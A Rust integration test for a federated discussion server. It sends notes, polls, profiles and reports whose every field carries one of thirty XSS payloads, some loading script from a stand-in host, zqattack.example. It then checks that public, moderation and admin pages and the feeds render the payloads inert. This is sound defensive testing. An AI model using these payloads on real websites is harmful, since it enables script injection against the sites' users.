//! Script, style, handlers and addresses that act, in every field in which somebody elsewhere may say
//! something: sent the whole way, then every page that shows any of it is read as a browser reads it.

use serde_json::{Value, json};

use super::html;
use super::stage::Stage;
use crate::support::administrator::Administrator;
use crate::support::databases::on_both_databases;
use crate::support::hub::{Answer, TestHub};

/// Each holds the mark where it would be seen to act.
const PAYLOADS: [&str; 30] = [
    "<script>zqattack()</script>",
    "</p><script src=//zqattack.example/x.js></script>",
    "<img src=x onerror=zqattack()>",
    "<img src=https://zqattack.example/pixel.png>",
    "<svg><script>zqattack()</script></svg>",
    "<svg/onload=zqattack()>",
    "<math><mi//xlink:href=\"data:x,<script>zqattack()</script>\">",
    "<iframe srcdoc=\"<script>zqattack()</script>\"></iframe>",
    "<a href=\"javascript:zqattack()\">a</a>",
    "<a href=\"java&#10;script:zqattack()\">a</a>",
    "<a href=\"\u{1}javascript:zqattack()\">a</a>",
    "<a href=\"data:text/html,<script>zqattack()</script>\">a</a>",
    "<a href=\"https://ok.example/\" onmouseover=\"zqattack()\" style=\"zqattack\">a</a>",
    "<p style=\"background:url(https://zqattack.example)\" class=\"zqattack\" id=\"zqattack\">a</p>",
    "<style>@import '//zqattack.example';</style>",
    "<link rel=stylesheet href=//zqattack.example>",
    "<base href=\"https://zqattack.example/\">",
    "<meta http-equiv=refresh content=\"0;url=//zqattack.example\">",
    "<form action=\"https://zqattack.example\"><input name=zqattack><button formaction=\"javascript:zqattack()\">",
    "<video poster=\"https://zqattack.example/p\" src=\"https://zqattack.example/v\" srcset=zqattack></video>",
    "<object data=\"javascript:zqattack()\"></object><embed src=zqattack>",
    "<noscript><p title=\"</noscript><img src=x onerror=zqattack()>\">",
    "<textarea></textarea><script>zqattack()</script></textarea>",
    "<title></title><img src=x onerror=zqattack()></title>",
    "<!--><img src=x onerror=zqattack()>-->",
    "\"><img src=x onerror=zqattack()>",
    "' onfocus=zqattack() autofocus='",
    "</script><script>zqattack()</script>",
    "]]><script>zqattack()</script>",
    "&lt;script&gt;zqattack()&lt;/script&gt;",
];

/// A note with the payload in every field of it.
fn note(stage: &Stage, number: usize, payload: &str, answers: Option<&str>) -> Value {
    let away = &stage.away;
    let name = format!(
        "markup{number}{}",
        if answers.is_some() { "a" } else { "c" }
    );
    let mut note = away.note(
        &name,
        &format!("painter{number}"),
        "",
        answers,
        &stage.group,
    );
    let link = "javascript:zqattack()";
    note["content"] = json!(format!("<p>words {payload} words</p>"));
    note["contentMap"] = json!({ payload: note["content"] });
    for field in [
        "name",
        "summary",
        "mediaType",
        "published",
        "updated",
        "sensitive",
    ] {
        note[field] = json!(payload);
    }
    note["url"] = json!([link, { "href": link, "mediaType": payload, "type": "Link" }]);
    note["language"] = json!({ "identifier": payload, "name": payload });
    note["tag"] = json!([
        { "type": "Mention", "href": stage.group, "name": payload },
        { "type": "Mention", "href": link, "name": payload },
        { "type": "Hashtag", "href": link, "name": format!("#{payload}") },
        { "type": "Emoji", "name": payload, "icon": { "url": link, "mediaType": payload } },
        { "type": "Emoji", "name": ":ok:", "icon": { "url": "https://zqattack.example/e.png\" onload=\"zqattack()" } },
        { "type": payload, "name": payload },
    ]);
    note["attachment"] = json!([
        { "type": "Image", "url": link, "name": payload, "mediaType": payload },
        { "type": "Image", "url": "https://zqattack.example/i.png", "name": payload, "mediaType": "image/png", "summary": payload },
        { "type": "Image", "url": "data:image/svg+xml,<svg onload=zqattack()>", "name": payload },
        { "type": "Document", "url": "https://ok.example/\"onclick=\"zqattack()", "name": payload, "mediaType": payload },
        { "type": "PropertyValue", "name": payload, "value": payload },
    ]);
    note["icon"] = json!({ "url": link });
    note["image"] = json!({ "url": link, "name": payload });
    note["location"] =
        json!({ "type": "Place", "name": payload, "address": payload, "latitude": payload });
    note["quote"] = json!(link);
    note["quoteAuthorization"] = json!(link);
    note["likes"] = json!({ "totalItems": payload });
    note
}

fn poll(stage: &Stage, number: usize, payload: &str) -> Value {
    let mut poll = note(stage, number, payload, None);
    poll["id"] = json!(stage.away.note_uri(&format!("poll{number}")));
    poll["type"] = json!("Question");
    poll["endTime"] = json!(payload);
    poll["oneOf"] = json!([
        { "type": "Note", "name": payload, "replies": { "totalItems": -5 } },
        { "type": "Note", "name": format!("b{payload}"), "replies": { "totalItems": 1e300 } },
    ]);
    poll
}

fn profile(stage: &Stage, number: usize, payload: &str) -> Value {
    let link = "javascript:zqattack()";
    json!({
        "id": stage.away.actor(&format!("painter{number}")),
        "name": payload, "summary": payload, "preferredUsername": payload,
        "url": link, "icon": { "type": "Image", "url": link }, "image": { "url": link },
        "tag": [{ "type": "Emoji", "name": payload, "icon": { "url": link } }],
        "attachment": [{ "type": "PropertyValue", "name": payload, "value": payload }],
    })
}

/// Sends all of it; answers the addresses of what was said.
async fn paint(stage: &Stage) -> Vec<String> {
    let away = &stage.away;
    let mut said = Vec::new();
    for (number, payload) in PAYLOADS.iter().enumerate() {
        let who = format!("painter{number}");
        away.answer_as(&format!("/users/{who}"), profile(stage, number, payload));
        let objects = [
            note(stage, number, payload, Some(&stage.post)),
            note(stage, number, payload, None),
            poll(stage, number, payload),
        ];
        for mut object in objects {
            if number % 3 == 1 {
                object["type"] = json!("Article");
            }
            said.push(object["id"].as_str().expect("an id").to_owned());
            away.send(&stage.hub, &away.activity(&who, "Create", object))
                .await;
        }
        let mut flag = away.activity(&who, "Flag", json!([stage.post, stage.group]));
        flag["content"] = json!(payload);
        flag["summary"] = json!(payload);
        away.send(&stage.hub, &flag).await;
        let mut emoji = away.activity(&who, "EmojiReact", stage.post.clone());
        emoji["content"] = json!(payload);
        away.send(&stage.hub, &emoji).await;
    }
    let mut private = note(stage, 0, PAYLOADS[0], None);
    private["id"] = json!(away.note_uri("private"));
    private["to"] = json!([stage.group]);
    private["cc"] = json!([]);
    away.send(&stage.hub, &away.activity("painter0", "Create", private))
        .await;
    stage.hub.settle().await;
    said
}

fn check(faults: &mut Vec<String>, path: &str, answer: &Answer) -> usize {
    let is_page = answer.header("content-type").starts_with("text/html");
    if !answer.status.is_success() || !is_page {
        faults.push(format!("{path}: {}", answer.status));
    }
    let (found, marks) = html::faults(&answer.text());
    faults.extend(found.into_iter().map(|fault| format!("{path}: {fault}")));
    marks
}

on_both_databases! {
    async fn no_field_of_others_acts_on_any_page(hub: TestHub) {
        let stage = Stage::set(hub).await;
        let said = paint(&stage).await;
        let mut faults = Vec::new();
        let mut marks = 0;
        let mut shown = 0;
        let mut paths = vec![
            stage.page_of_post().await, "/".to_owned(), "/discussions".to_owned(),
            "/discussions?space=velo".to_owned(), "/@velo".to_owned(),
            "/recherche?q=words".to_owned(), "/recherche?q=zqattack".to_owned(),
            "/discussions/journal/velo".to_owned(),
        ];
        for uri in &said {
            if let Some(comment) = stage.comment(uri).await {
                shown += 1;
                paths.push(format!("/discussions/{}", comment.id));
            }
        }
        assert!(shown >= 40, "most of it is kept: {shown}");
        for path in &paths {
            let answer = stage.hub.get(path).await;
            if answer.status.as_u16() == 404 && path.contains("journal") {
                continue;
            }
            // It waits to be read by the team, or leads to its place in a thread that is read anyway.
            if matches!(answer.status.as_u16(), 303 | 404) && path.starts_with("/discussions/") {
                continue;
            }
            marks += check(&mut faults, path, &answer);
        }
        let team = Administrator::of(&stage.hub).await;
        let before = marks;
        for path in ["/moderation", "/administration", "/moderation/rules/velo", "/discussions"] {
            marks += check(&mut faults, path, &team.get(path).await);
        }
        assert!(before > 0 && marks > before, "their words are shown as words: {before}, {marks}");
        faults.extend(machines(&stage).await);
        assert!(faults.is_empty(), "{}", faults.join("\n"));
    }
}

/// Feeds and collections are well-formed whatever was said.
async fn machines(stage: &Stage) -> Vec<String> {
    let mut faults = Vec::new();
    let post = stage.path(&stage.post).to_owned();
    for path in [
        format!("{post}/replies?page=1"),
        format!("{post}/context?page=1"),
        format!("{post}/likes"),
        post.clone(),
        stage.path(&stage.group).to_owned(),
        format!("{}/outbox?page=1", stage.path(&stage.group)),
    ] {
        let answer = stage.hub.get_as(&path, "application/activity+json").await;
        if serde_json::from_slice::<Value>(&answer.body).is_err() {
            faults.push(format!("{path}: no JSON, {}", answer.status));
        }
        if answer.text().contains("javascript:") {
            faults.push(format!("{path}: an address that acts"));
        }
    }
    for path in [
        "/feed.atom",
        "/feed.rss",
        "/feed.json",
        "/actualites.atom",
        "/actualites/feed.atom",
    ] {
        let answer = stage.hub.get(path).await;
        let text = answer.text();
        let is_wrong = text.contains(char::is_control)
            && text.chars().any(|c| c.is_control() && !c.is_whitespace());
        if answer.status.is_success() && is_wrong {
            faults.push(format!("{path}: a character that XML cannot hold"));
        }
    }
    faults
}
